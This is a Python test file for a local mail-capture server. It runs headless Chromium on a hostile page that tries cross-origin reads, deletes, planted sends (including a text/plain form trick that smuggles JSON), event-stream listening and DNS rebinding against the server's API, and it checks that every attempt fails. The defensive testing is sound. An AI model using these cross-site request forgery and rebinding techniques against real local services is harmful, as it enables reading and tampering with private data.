"""Pages of other sites in a real browser, which try all that a page can: they read nothing here, and change nothing."""

import contextlib
import http.server
import json
import os
import re
import signal
import smtplib
import subprocess
import tempfile
import threading
import urllib.request

from peer import WAIT, check, program, run, same, tried

PICTURE = "/api/v1/message/latest/part/0/thumb"
PAGE = """<!DOCTYPE html><title>Another site</title><script>
const base = BASE, tries = {
    "read": () => fetch(base + "/api/v1/messages").then((answer) => answer.text()),
    "read without asking": () => fetch(base + "/api/v1/messages", {mode: "no-cors"}).then((answer) => answer.text()),
    "delete": () => fetch(base + "/api/v1/messages", {method: "DELETE"}).then((answer) => answer.status),
    "send": () => fetch(base + "/api/v1/send", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
        body: JSON.stringify({From: {Email: "x@evil.test"}, To: [{Email: "y@evil.test"}], Subject: "Planted"})})
        .then((answer) => answer.text()),
    "listen": () => new Promise((done) => {
        const events = new EventSource(base + "/api/events");
        events.onmessage = (event) => done(event.data);
        events.onerror = () => done("");
    }),
    "listen at a WebSocket": () => new Promise((done) => {
        const events = new WebSocket(base.replace("http:", "ws:") + "/api/events");
        events.onopen = () => done("open");
        events.onclose = () => done("");
    }),
    "post a form": () => new Promise((done) => {
        const form = document.createElement("form"), frame = document.createElement("iframe");
        frame.name = "target";
        document.body.append(frame, form);  // which loads an empty page
        frame.onload = () => { try { done(frame.contentDocument.body.innerText); } catch (error) { done(""); } };
        Object.assign(form, {method: "POST", target: "target", enctype: "text/plain", action: base + "/api/v1/send"});
        form.innerHTML = '<input name=\\'{"From":{"Email":"x@evil.test"},"To":[{"Email":"y@evil.test"}],"Subject":"Planted","X":"\\' value=\\'"}\\'>';
        form.submit();
    }),
    "a picture": () => new Promise((done) => {
        const picture = new Image();
        picture.onload = () => done("seen");
        picture.onerror = () => done("");
        picture.src = base + PICTURE;
    }),
};
(async () => {
    const got = {};
    for (const [name, run] of Object.entries(tries)) {
        try { got[name] = await run(); } catch (error) { got[name] = ""; }
    }
    await fetch("/got", {method: "POST", body: JSON.stringify(got)});
})();
</script>"""


class Site:
    """A web server with one page, to which the page tells what it got."""

    def __init__(self, bench, page):
        self.got = None
        self.told = threading.Event()
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            def do_POST(self):
                site.got = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self.send_response(204)
                self.end_headers()
                site.told.set()

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()
        bench.endings.append(self.server.shutdown)


def browser(bench, *words):
    """Each name below .test is this machine, as a rebinding nameserver would have it."""
    return (program("chromium-headless-shell", "chromium-headless-shell"), "--no-sandbox", "--disable-gpu", "--no-proxy-server",
            "--disable-background-networking", "--host-resolver-rules=MAP *.test 127.0.0.1",
            f"--user-data-dir={tempfile.mkdtemp(dir=bench.folder)}", *words)


@contextlib.contextmanager
def browsing(bench, url):
    process = bench.start(*browser(bench, "--remote-debugging-port=0", url), start_new_session=True,
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)  # Debian's is a script around it
        process.wait(WAIT)


def captured(bench):
    """A listener with one message in its inbox, and where it is asked."""
    listener = bench.listen("--http", "127.0.0.1:0")
    port = listener.event("http")["port"]
    with smtplib.SMTP("127.0.0.1", listener.port, timeout=WAIT) as client:
        client.sendmail("a@client.test", ["b@example.test"], "Subject: Private\n\nthe secret word\n")
    return port


def asked(port, path):
    with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=WAIT) as answer:
        return answer.read()


def subjects(port):
    return [one["Subject"] for one in json.loads(asked(port, "/api/v1/messages"))["messages"]]


@tried("Chromium", "in", "a page of another site", "a page of another port")
def test_page_of_another_site(bench):
    """F36: whether the site is a stranger's or one on this machine."""
    port = captured(bench)
    check(asked(port, PICTURE), "who may ask gets a picture")
    for host in ("evil.test", "localhost", "127.0.0.1"):
        for base in (f"http://127.0.0.1:{port}", f"http://localhost:{port}"):
            site = Site(bench, PAGE.replace("BASE", json.dumps(base)).replace("PICTURE", json.dumps(PICTURE)))
            with browsing(bench, f"http://{host}:{site.port}/"):
                check(site.told.wait(WAIT), "the page did not end its tries")
            same({name: what for name, what in site.got.items() if what != ""}, {}, f"{host} of {base}")
            same(subjects(port), ["Private"], host)


@tried("Chromium", "in", "a name that leads here (DNS rebinding)", "our own address")
def test_rebound_name(bench):
    """F36: the page is of the very site that it asks, and still gets nothing."""
    port = captured(bench)

    def shown(host):
        done = bench.run(*browser(bench, "--dump-dom", f"http://{host}:{port}/api/v1/messages"))
        return re.sub(r"<[^>]*>", " ", done.stdout.decode())
    check("Private" not in shown("rebound.test"), "a rebound name is answered")
    check("Private" in shown("localhost"), "a person may look with a browser")


if __name__ == "__main__":
    run(globals())
